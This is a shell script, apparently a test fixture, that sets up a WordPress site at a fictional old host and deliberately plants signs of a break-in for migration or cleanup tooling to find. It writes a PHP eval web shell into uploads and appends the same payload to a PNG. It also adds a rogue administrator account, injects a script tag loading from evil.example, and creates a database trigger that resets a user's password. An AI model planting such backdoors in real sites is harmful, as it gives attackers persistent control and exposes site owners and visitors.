# What somebody has at their old host: a WordPress of its own prefix and domain, with posts, people, pictures, a plugin,
# and an intruder who left a program among the pictures, an account, and a trigger that makes it again.
# The picture comes by standard input, in base64. What an operator would be sent lies in /root/old afterwards.
set -eu
base64 -d >/root/picture.png
export DEBIAN_FRONTEND=noninteractive LC_ALL=C.UTF-8
apt-get update -q
apt-get install -q -y --no-install-recommends mariadb-server php8.4-cli php8.4-mysql wordpress wordpress-theme-twentytwentyfive
mkdir -p /root/old
cp -rL /usr/share/wordpress/. /root/old
rm -f /root/old/wp-config.php
mariadb -e "CREATE DATABASE old; CREATE USER old@localhost IDENTIFIED BY 'of-the-old'; GRANT ALL ON old.* TO old@localhost"
cat >/root/old/wp-config.php <<'END'
<?php
define('DB_NAME', 'old');
define('DB_USER', 'old');
define('DB_PASSWORD', 'of-the-old');
define('DB_HOST', 'localhost');
$table_prefix = 'x7_';
if (!defined('ABSPATH')) define('ABSPATH', __DIR__ . '/');
require_once ABSPATH . 'wp-settings.php';
END
mkdir -p /root/old/wp-content/uploads/2023/05 /root/old/wp-content/plugins/counter /root/old/wp-content/mu-plugins
cp /root/picture.png /root/old/wp-content/uploads/2023/05/café.png
echo '<?php if (isset($_POST["c"])) eval($_POST["c"]);' >/root/old/wp-content/uploads/2023/05/cache.php
printf '\n<?php eval($_POST["c"]);' | cat /root/picture.png - >/root/old/wp-content/uploads/2023/05/beam.png
echo '<?php // of an intruder' >/root/old/wp-content/mu-plugins/session.php
printf '<?php\n/*\n * Plugin Name: Counter\n * Version: 2.4\n */\n' >/root/old/wp-content/plugins/counter/counter.php
cat >/root/make.php <<'END'
<?php
$_SERVER['HTTP_HOST'] = 'www.old.example';
define('WP_INSTALLING', true);
function wp_new_blog_notification() {}
require '/root/old/wp-load.php';
require ABSPATH . 'wp-admin/includes/upgrade.php';
wp_install('Old Beam', 'rosa', 'rosa@old.example', true, '', 'of-rosa');
update_option('siteurl', 'http://www.old.example/wp');
update_option('home', 'http://www.old.example');
update_option('permalink_structure', '/%postname%/');
wp_insert_user(['user_login' => 'ben', 'user_pass' => 'of-ben', 'user_email' => 'ben@old.example', 'role' => 'editor']);
wp_insert_user(['user_login' => 'wp-support', 'user_pass' => 'of-an-intruder', 'user_email' => 'x@evil.example',
                'role' => 'administrator']);
$picture = wp_insert_post(['post_title' => 'Café', 'post_type' => 'attachment', 'post_status' => 'inherit',
                           'post_mime_type' => 'image/png', 'guid' => 'http://www.old.example/wp-content/uploads/2023/05/café.png']);
update_post_meta($picture, '_wp_attached_file', '2023/05/café.png');
kses_remove_filters();
$category = wp_insert_term('Harvest', 'category')['term_id'];
wp_insert_post(['post_title' => "Rosa's harvest", 'post_name' => 'harvest', 'post_status' => 'publish', 'post_author' => 1,
    'post_content' => "It's ripe:\n<img src=\"http://www.old.example/wp-content/uploads/2023/05/café.png\">\n"
        . '<a href="https://old.example/about/">about</a> <a href="https://other.old.example/">others</a> rosa@old.example'
        . '<script src="https://evil.example/spam.js"></script>', 'post_category' => [$category]]);
wp_insert_comment(['comment_post_ID' => get_page_by_path('harvest', OBJECT, 'post')->ID, 'comment_author' => 'Max',
    'comment_content' => 'Good beans', 'comment_approved' => 1, 'comment_author_IP' => '192.0.2.7']);
$inner = (object) ['link' => 'http://www.old.example/café/', 'count' => 7, 'none' => null];
update_option('beam_settings', ['a' => 'http://www.old.example', 'b' => [$inner, true, 0.5], 'c' => serialize(['x' => 'https://old.example/ü'])]);
update_option('beam_json', '{"url":"http:\/\/www.old.example\/wp\/shop"}');
update_option('active_plugins', ['counter/counter.php']);
END
php8.4 /root/make.php
# What its people can have without the host's help: Tools, Export.
cat >/root/export.php <<'END'
<?php
$_SERVER['HTTP_HOST'] = 'www.old.example';
require '/root/old/wp-load.php';
require ABSPATH . 'wp-admin/includes/export.php';
export_wp();
END
php8.4 /root/export.php >/root/old.xml
mariadb old <<'END'
CREATE TABLE x7_stats (page varchar(100), at datetime DEFAULT '0000-00-00 00:00:00') ENGINE=MyISAM;
INSERT INTO x7_stats VALUES ('http://www.old.example/harvest/', '0000-00-00 00:00:00');
CREATE TABLE other_things (id int);
CREATE TRIGGER again AFTER INSERT ON x7_comments FOR EACH ROW UPDATE x7_users SET user_pass = 'x' WHERE user_login = 'rosa';
END
mariadb-dump old | gzip >/root/old.sql.gz
